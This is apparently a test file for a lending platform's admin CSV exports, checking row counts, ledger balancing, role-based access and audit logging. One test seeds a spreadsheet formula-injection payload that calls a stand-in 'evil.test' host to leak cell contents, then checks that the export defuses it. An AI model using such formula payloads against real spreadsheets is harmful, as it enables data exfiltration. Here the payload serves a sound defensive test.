import { and, eq, gte, lte, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { Code } from '../../../../shared/codes';
import { manilaToday } from '../../../../shared/format/date';
import { OrderStatus } from '../../../../shared/order-status';
import { auditLog, ledgerEntries, loanOrders } from '../../../db/schema';
import { loanTapeBatches, payoffOf, postPayment, readLoanState, stateOn, trialBalance } from '../../../money';
import { buildTestApp } from '../../../test/test-app';
import { staffHeader } from '../../../test/staff-support';
import { csvRecords, parseCsv } from './parse-csv';

const t = await buildTestApp();
const db = t.database.db;
const finance = await staffHeader(t, ['finance'], 'fin.export@hiram.test');
const admin = await staffHeader(t, ['admin']);
const support = await staffHeader(t, ['support']);
const collections = await staffHeader(t, ['collections']);
const today = manilaToday();
const range = { from: '2000-01-01', to: today };

const download = (name: string, headers: Record<string, string> = finance, dates: Record<string, string> = range) =>
  t.app.inject({ url: `/owner/admin/exports/csv?${new URLSearchParams({ export: name, ...dates })}`, headers });

/** How many rows a table holds. */
async function countOf(table: 'payments' | 'ledger_entries'): Promise<number> {
  const result = (await db.execute(sql`select count(*)::int as n from ${sql.identifier(table)}`)) as {
    rows: { n: number }[];
  };
  return result.rows[0]?.n ?? -1;
}

const pesos = (cell: string | undefined) => Math.round(Number(cell) * 100);

describe('exports an auditor can use (row-level CSV, streamed, UTF-8 with a byte-order mark)', () => {
  it('payments: every row, with a byte-order mark, and a reference typed as a formula read as text', async () => {
    const [running] = await db.select().from(loanOrders).where(eq(loanOrders.status, OrderStatus.REPAYING)).limit(1);
    const reference = '=HYPERLINK("http://evil.test/?"&A1,"Refund")';
    await postPayment(
      db,
      { orderId: running!.id, provider: 'sandbox', reference, amount: 12_345, kind: 'repayment', postedBy: 'test' },
      today,
    );
    const res = await download('payments');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="hiram-payments-${range.from}-to-${range.to}.csv"`,
    );
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csvRecords(res.body);
    const n = await countOf('payments');
    expect(rows).toHaveLength(n);
    const row = rows.find((r) => r.Reference?.includes('HYPERLINK'));
    expect(row?.Reference).toBe(`'${reference}`);
    expect(row?.Contract).toBe(running!.orderNo);
    expect(pesos(row?.['Amount (PHP)'])).toBe(12_345);
    // The raw bytes quote the cell and double its quotes: no cell starts with = once read.
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Refund"")"`);
    for (const cells of parseCsv(res.body)) for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('the loan tape: one row per loan paid out, terms, dates and what is outstanding by component', async () => {
    const res = await download('loans');
    const rows = csvRecords(res.body);
    const disbursed = await db
      .select()
      .from(loanOrders)
      .where(and(gte(loanOrders.disbursedOn, range.from), lte(loanOrders.disbursedOn, range.to)));
    expect(rows.map((r) => r.Contract).sort()).toEqual(disbursed.map((o) => o.orderNo).sort());
    const running = disbursed.find((o) => o.status === OrderStatus.OVERDUE) ?? disbursed[0]!;
    const row = rows.find((r) => r.Contract === running.orderNo)!;
    const state = stateOn({ loanState: readLoanState(running.loanState, running) }, today);
    expect(pesos(row['Outstanding total (PHP)'])).toBe(payoffOf(state));
    expect(
      [
        'Outstanding principal (PHP)',
        'Outstanding interest (PHP)',
        'Outstanding fees (PHP)',
        'Outstanding penalties (PHP)',
        'Outstanding legal charges (PHP)',
        'Outstanding enforcement costs (PHP)',
      ].reduce((sum, title) => sum + pesos(row[title]), 0),
    ).toBe(payoffOf(state));
    expect(pesos(row['Principal (PHP)'])).toBe(running.amount);
    expect(row['Paid out on']).toBe(running.disbursedOn);
    expect(row['Term (days)']).toBe(String(running.termDays));
    expect(row['Maturity date']).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    if (running.status === OrderStatus.OVERDUE) expect(Number(row['Days past due (today)'])).toBeGreaterThan(0);
    // The principal still out on running loans is the receivable in the books.
    const tb = await trialBalance(db, today, today);
    const receivable = tb.rows.find((r) => r.account === 'principal_receivable')?.balance ?? 0;
    const open = rows.filter((r) => r['Written off'] === 'no' && r.Status !== 'Settled');
    expect(open.reduce((sum, r) => sum + pesos(r['Outstanding principal (PHP)']), 0)).toBe(receivable);
  });

  it('reads a range a batch at a time on a cursor: small batches give the same rows', async () => {
    const whole: string[] = [];
    for await (const batch of loanTapeBatches(db, range, today, 500)) whole.push(...batch.map((r) => r.orderNo));
    const small: string[] = [];
    let batches = 0;
    for await (const batch of loanTapeBatches(db, range, today, 2)) {
      expect(batch.length).toBeLessThanOrEqual(2);
      batches++;
      small.push(...batch.map((r) => r.orderNo));
    }
    expect(small).toEqual(whole);
    expect(batches).toBeGreaterThanOrEqual(Math.ceil(whole.length / 2));
  });

  it('journal lines balance, and the trial balance over the range ties to them and to the trial balance of its last day', async () => {
    const journal = csvRecords((await download('journal')).body);
    const n = await countOf('ledger_entries');
    expect(journal).toHaveLength(n);
    const debits = journal.reduce((s, r) => s + pesos(r['Debit (PHP)']), 0);
    const credits = journal.reduce((s, r) => s + pesos(r['Credit (PHP)']), 0);
    expect(debits).toBe(credits);
    expect(journal[0]?.['Account name']).not.toBe('');

    const accounts = csvRecords((await download('trialBalance')).body);
    expect(accounts.reduce((s, r) => s + pesos(r['Debits (PHP)']), 0)).toBe(debits);
    const tb = await trialBalance(db, today, today);
    for (const row of tb.rows) {
      const exported = accounts.find((r) => r.Account === row.account);
      expect(pesos(exported?.['Closing balance (debit +) (PHP)']), row.account).toBe(row.balance);
    }

    // A range that starts later opens with what came before it.
    const [first] = await db.select({ d: sql<string>`min(business_date)::text` }).from(ledgerEntries);
    const later = { from: first!.d < today ? today : first!.d, to: today };
    const tail = csvRecords((await download('trialBalance', finance, later)).body);
    for (const row of tail) {
      const opening = pesos(row['Opening balance (debit +) (PHP)']);
      expect(opening + pesos(row['Debits (PHP)']) - pesos(row['Credits (PHP)'])).toBe(
        pesos(row['Closing balance (debit +) (PHP)']),
      );
    }
  });

  it('payouts come with their account and who asked and approved', async () => {
    const res = await download('payouts', admin);
    expect(res.statusCode).toBe(200);
    const [header] = parseCsv(res.body);
    expect(header).toContain('Requested by');
    expect(header).toContain('Account number');
  });

  it('is for finance and admin only, checks the export and the range, and each download is audited', async () => {
    expect((await download('payments', support)).json().code).toBe(Code.FORBIDDEN);
    expect((await download('loans', collections)).json().code).toBe(Code.FORBIDDEN);
    expect((await download('payments', {})).json().code).toBe(Code.SESSION_EXPIRED);
    expect((await download('everything')).json().code).toBe(Code.BAD_REQUEST);
    expect((await download('payments', finance, { from: '2026-02-01', to: '2026-01-01' })).json()).toMatchObject({
      code: Code.BAD_REQUEST,
      message: 'The range ends before it starts',
    });
    const [entry] = await db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'exports.download'), eq(auditLog.actor, 'fin.export@hiram.test')))
      .limit(1);
    expect(entry?.after).toEqual({ export: 'payments', from: range.from, to: range.to });
  });

  it('report CSVs have the byte-order mark too', async () => {
    const res = await t.app.inject({
      url: `/owner/admin/reports/csv?${new URLSearchParams({ report: 'collections', ...range })}`,
      headers: finance,
    });
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
